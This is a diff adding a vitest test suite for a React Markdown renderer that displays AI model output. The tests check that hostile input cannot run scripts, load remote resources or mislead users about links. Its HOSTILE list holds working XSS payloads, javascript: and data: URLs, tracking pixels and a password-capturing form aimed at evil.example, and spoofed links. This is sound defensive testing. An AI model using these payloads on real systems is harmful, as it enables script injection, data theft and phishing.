@@ -1,0 +1,184 @@
+import fc from "fast-check";
+import { renderToStaticMarkup } from "react-dom/server";
+import { expect, test } from "vitest";
+import { Markdown } from "./markdown.tsx";
+
+/** Ways by which a hostile model, or a resource quoted by an honest one, might run, load or lead somewhere. */
+const HOSTILE = [
+  "[a](javascript:alert(1))",
+  "[a](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
+  "[a](&#106;avascript:alert(1)) [b](javascript&colon;alert(1)) [c](java&Tab;script:alert(1))",
+  "[a](<java\tscript:alert(1)>) [b](<\u0001javascript:alert(1)>) [c](<\u00a0javascript:alert(1)>)",
+  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](blob:https://x.example/1)",
+  '<img src=x onerror="alert(1)"> text <img src="https://evil.example/p.png">',
+  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
+  '<iframe src="javascript:alert(1)"></iframe>\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  "<style>@import url(https://evil.example/x.css);</style>",
+  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
+  "<script>alert(1)</script>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  '<a href="javascript:alert(1)" onclick="alert(1)">a</a> <base href="https://evil.example/">',
+  "![pixel](https://evil.example/p.png?q=secret) ![](data:image/svg+xml,<svg/onload=alert(1)>)",
+  "[![pixel](https://evil.example/p.png)](javascript:alert(1)) ![a][p]\n\n[p]: https://evil.example/p.png",
+  "[a](//evil.example/x) [b](/\\evil.example) [c](\\\\evil.example) [d](evil.example)",
+  "[a](mailto:a@b.example%0d%0aBcc:c@d.example) <mailto:a@b.example?cc=c@d.example> mailto:a@b.example?bcc=x@y.example",
+  "[a](https://good.example@evil.example/) https://user:secret@evil.example/ <https://a:b@evil.example>",
+  '[a](https://x.example/"onmouseover="alert(1)) [b](https://x.example "t\\" onclick=alert(1)")',
+  "[a]: javascript:alert(1)\n[^camp:1]: javascript:alert(1)\n\n[a] [a][] [b][a] [^camp:1]",
+  '```html"onclick="alert(1)\n<script>alert(1)</script>\n```\n\n`<img src=x onerror=alert(1)>`',
+  "| <script>alert(1)</script> | a |\n| :-: | - |\n| ![p](//evil.example/p) | [b](javascript:1) |",
+  "- [x] <iframe src=//evil.example>\n- [ ] ![p](https://evil.example/p)\n\n> <object data=//evil.example>",
+  "<!--><img src=x onerror=alert(1)>--> <!-- --!><img src=x onerror=alert(1)> <![CDATA[<script>]]> <?x <script> ?>",
+  "[a](https://evil.example/\u202egnp.exe) [b](https://ev\u200bil.example) https://аpple.example/",
+];
+
+test("the check itself sees harm", () => {
+  expect(harmIn('<p><img src="x" onerror="alert(1)"/><a href="javascript:1">a</a></p>')).toEqual([
+    "img",
+    "src=x",
+    "onerror=alert(1)",
+    "href=javascript:1",
+  ]);
+  expect(harmIn("<p><scr ipt>")).toEqual(["scr", "ipt="]);
+});
+
+test("hostile text runs nothing, loads nothing and links nowhere it should not, finished or half written", () => {
+  for (const text of HOSTILE) {
+    expect(harmIn(markupOf(text, false))).toEqual([]);
+    for (let end = 1; end < text.length; end += 3) {
+      expect(harmIn(markupOf(text.slice(0, end), true))).toEqual([]);
+    }
+  }
+});
+
+test("nor do hostile pieces in any order", () => {
+  const piece = fc.constantFrom(
+    ...HOSTILE.flatMap((text) => [text, text.slice(0, -2), text.slice(3)]),
+    "\n",
+    "[",
+    "](",
+    "<",
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { minLength: 2, maxLength: 6 }), fc.boolean(), (pieces, streaming) => {
+      expect(harmIn(markupOf(pieces.join(""), streaming))).toEqual([]);
+    }),
+    { seed: 20260706, numRuns: 500 },
+  );
+});
+
+test("raw HTML is read, not run: line breaks count, comments are dropped", () => {
+  expect(markupOf("a <b>bold</b><br/>c <!-- hidden -->d")).toBe("<p>a &lt;b&gt;bold&lt;/b&gt;<br/>c d</p>");
+  expect(markupOf("<div>\nshown\n</div>\n\n<!-- hidden -->")).toBe(
+    "<p class>&lt;div&gt;\nshown\n&lt;/div&gt;</p>",
+  );
+});
+
+test("a link says where it leads", () => {
+  const attributes = 'title="dust.example" target="_blank" rel="noopener noreferrer nofollow"';
+  expect(markupOf("[the *map*](https://dust.example/m?a=1&amp;b=2)")).toBe(
+    `<p><a href="https://dust.example/m?a=1&amp;b=2" ${attributes}>the <em>map</em></a></p>`,
+  );
+  expect(markupOf("Write to <camp.lead@dust.example>.")).toBe(
+    `<p>Write to <a href="mailto:camp.lead@dust.example" ${attributes}>camp.lead@dust.example</a>.</p>`,
+  );
+  const visible = (text: string) => markupOf(text).replaceAll(/<[^>]*>/g, "");
+  expect(visible("[good.example](https://evil.example/)")).toBe("good.example (evil.example)");
+  expect(visible("[**good**.example](https://evil.example/)")).toBe("good.example (evil.example)");
+  expect(visible("[](https://evil.example/)")).toBe(" (evil.example)");
+  expect(visible("<https://аpple.example/>")).toBe("https://аpple.example/ (xn--pple-43d.example)");
+  expect(visible("see https://dust.example/a_b and www.dust.example")).toBe(
+    "see https://dust.example/a_b and www.dust.example",
+  );
+});
+
+test("a picture is a description and a host, inside a link only a description", () => {
+  const link =
+    'href="https://pics.example/a.png" title="pics.example" target="_blank" rel="noopener noreferrer nofollow"';
+  expect(markupOf("![A *red* tent](https://pics.example/a.png)")).toBe(
+    `<p><a ${link}>A red tent<span class> (pics.example)</span></a></p>`,
+  );
+  expect(markupOf("![A tent](tent.png) ![](x)")).toBe("<p>A tent Picture</p>");
+  expect(markupOf("[![A tent](https://pics.example/a.png)](https://dust.example)")).toMatch(
+    /^<p><a href="https:\/\/dust.example\/"[^>]*>A tent<\/a><\/p>$/,
+  );
+});
+
+test("a citation is what the caller makes of its source, and nothing in code", () => {
+  expect(markupOf("Here [^camp:123], **there [^resource:0190f2c4-7]**.")).toBe(
+    "<p>Here <button>camp:123</button>, <strong>there <button>resource:0190f2c4-7</button></strong>.</p>",
+  );
+  expect(markupOf("`[^camp:1]` [^1] [^camp:] [^Camp:1] [^camp:a b]")).not.toContain("<button>");
+});
+
+test("all blocks people write come out as what they are", () => {
+  const text = [
+    "# One\n\nTwo\n---\n\n###### Six",
+    "3. three\n4. four\n   - nested\n\n     with a paragraph",
+    "- [x] done\n- [ ] open",
+    "> quoted\n> > twice",
+    "| a | b |\n| :-: | -: |\n| 1 | **2** |",
+    "    indented code",
+    "~~gone~~ \\*kept\\*  \nnext &amp; last",
+    "***",
+  ].join("\n\n");
+  expect(markupOf(text)).toBe(
+    [
+      "<h3>One</h3><h4>Two</h4><h6>Six</h6>",
+      '<ol start="3"><li>three</li><li>four<ul><li><p>nested</p><p>with a paragraph</p></li></ul></li></ol>',
+      '<ul><li class><input type="checkbox" disabled="" aria-label="Done" checked=""/>done</li>',
+      '<li class><input type="checkbox" disabled="" aria-label="To do"/>open</li></ul>',
+      "<blockquote><p>quoted</p><blockquote><p>twice</p></blockquote></blockquote>",
+      '<figure class aria-label="Table" tabindex="0"><table><thead><tr>',
+      '<th scope="col" data-align="center">a</th><th scope="col" data-align="right">b</th></tr></thead>',
+      '<tbody><tr><td data-align="center">1</td><td data-align="right"><strong>2</strong></td></tr></tbody></table></figure>',
+      '<pre class tabindex="0"><code>indented code</code></pre>',
+      "<p><del>gone</del> *kept*<br/>next &amp; last</p>",
+      "<hr/>",
+    ].join(""),
+  );
+});
+
+test("nesting deeper than anyone writes is flattened", () => {
+  const deep = markupOf(`${"> ".repeat(200)}end`);
+  expect(deep.match(/<blockquote>/g)?.length).toBeLessThan(40);
+  expect(deep).toContain("end");
+
+  const emphasised = markupOf(`${"*a **b ".repeat(100)}end${" b** a*".repeat(100)}`);
+  expect(emphasised.match(/<(?:em|strong)>/g)?.length).toBeLessThan(40);
+  expect(emphasised).toContain("end");
+});
+
+/** The message's markup without its outer element; class names, which the build makes up, are left out. */
+function markupOf(text: string, streaming = false): string {
+  const markup = renderToStaticMarkup(
+    <Markdown text={text} streaming={streaming} renderCitation={(sourceId) => <button>{sourceId}</button>} />,
+  );
+  return markup.replaceAll(/ class="[^"]*"/g, " class").replace(/^<div class>(.*)<\/div>$/s, "$1");
+}
+
+const ELEMENTS = [
+  ..."a blockquote br button code del em figure h3 h4 h5 h6 hr input li ol p pre span strong".split(" "),
+  ..."table tbody td th thead tr ul".split(" "),
+];
+const ATTRIBUTES =
+  "aria-label checked class data-align disabled href rel scope start tabindex target title type".split(" ");
+const OPENING = /<([a-z\d]+)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/g;
+const SAFE_HREF = /^(?:https?:\/\/[a-z\d.-]+\/|mailto:[\w.+-]+@[\w.-]+$)/;
+
+/** What in the markup is not on our lists. React escapes all text, so every `<` opens or closes an element. */
+function harmIn(markup: string): string[] {
+  const harm: string[] = [];
+  for (const [, element = "", written = ""] of markup.matchAll(OPENING)) {
+    if (!ELEMENTS.includes(element)) {
+      harm.push(element);
+    }
+    for (const [, attribute = "", value = ""] of written.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)) {
+      if (!ATTRIBUTES.includes(attribute) || (attribute === "href" && !SAFE_HREF.test(value))) {
+        harm.push(`${attribute}=${value}`);
+      }
+    }
+  }
+  const unread = markup.replaceAll(OPENING, "").replaceAll(/<\/[a-z\d]+>/g, "");
+  return /[<>]/.test(unread) ? [...harm, unread] : harm;
+}
